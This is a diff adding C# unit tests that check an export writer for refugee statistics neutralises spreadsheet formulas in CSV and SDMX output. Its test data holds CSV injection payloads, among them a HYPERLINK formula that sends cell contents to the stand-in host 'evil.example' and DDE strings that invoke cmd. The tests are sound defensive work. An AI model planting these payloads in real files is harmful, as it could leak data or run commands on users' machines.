@@ -200,6 +200,72 @@ public class ExportWriterTests
         }
     }
 
+    /// <summary>Texts a spreadsheet would run (OWASP's CSV injection list), and texts that genuinely start with a quote.</summary>
+    internal static readonly string[] FormulaNotes =
+    [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click for the report\")",
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-1+1",
+        "\tx",
+        "\r=1+1",
+        "'already quoted",
+        "''",
+    ];
+
+    public static TheoryData<string> Formulas() => new(FormulaNotes);
+
+    [Theory]
+    [MemberData(nameof(Formulas))]
+    public void A_note_a_spreadsheet_would_run_is_written_after_a_quote_in_both_formats_and_reads_back_exactly(string note)
+    {
+        var row = Row("REFUGEES", "SLV", "2023", "_T", "_T", "_T", 1, note: note);
+
+        foreach (var options in new[] { Csv, Sdmx, Csv with { Labels = ExportLabels.Spanish }, Sdmx with { Labels = ExportLabels.English } })
+        {
+            var text = Export(options, row);
+            Assert.EndsWith("," + ObservationCsv.Quote("'" + note) + "\r\n", text);
+            Assert.Equal(note, Assert.Single(ExportReader.Read(text)).Note);
+        }
+    }
+
+    [Fact]
+    public void Every_text_cell_is_neutralised_codes_and_labels_too_but_a_negative_value_stays_a_number()
+    {
+        // Nothing in the catalogue starts so, but a row is only data: the writer does not rely on where it came from.
+        var row = Row("=1+1", "@A1", "2023", "+X", "-Y", "=Z", -5, note: "-minus");
+
+        var csv = Lines(Export(Csv, row))[1];
+        var sdmx = Lines(Export(Sdmx, row))[1];
+
+        Assert.Equal("'=1+1,'@A1,2023,'+X,'-Y,'=Z,-5,NORMAL,'-minus", csv);
+        Assert.Equal("dataflow,MIRPS:DF_MIRPS_PROTECTION(1.0.0),I,'=1+1,'@A1,'+X,'-Y,'=Z,2023,-5,A,'-minus", sdmx);
+        Assert.Equal(row, Assert.Single(ExportReader.Read(Export(Csv, row))));
+        Assert.Equal(row, Assert.Single(ExportReader.Read(Export(Sdmx, row))));
+        Assert.Equal(row, Assert.Single(ExportReader.Read(Export(Sdmx with { Labels = ExportLabels.Spanish }, row))));
+    }
+
+    [Fact]
+    public void A_states_plain_export_with_formula_notes_reads_back_through_the_import_reader_unchanged()
+    {
+        var observations = FormulaNotes.Select((note, i) => new Observation
+        {
+            IndicatorCode = "REFUGEES", Country = "BLZ", Period = $"{2000 + i}", Sex = "_T", Age = "_T", CountryOfOrigin = "_T",
+            Value = i, Status = ObservationStatus.Normal, Note = note,
+        }).ToArray();
+        var written = new StringWriter();
+        ObservationCsv.Write(written, observations);
+
+        var fromExport = ObservationCsv.Read(new StringReader(Export(Csv, [.. observations.Select(ExportRow.From)])));
+        var fromWrite = ObservationCsv.Read(new StringReader(written.ToString()));
+
+        Assert.Empty(fromExport.Errors);
+        Assert.Equal(observations, fromExport.Observations);
+        Assert.Empty(fromWrite.Errors);
+        Assert.Equal(observations, fromWrite.Observations);
+        Assert.Contains(",\"'=HYPERLINK(", written.ToString()); // quoted for its commas, neutralised inside the quotes
+    }
+
     [Fact]
     public void Values_use_the_invariant_culture_whatever_the_current_one()
     {
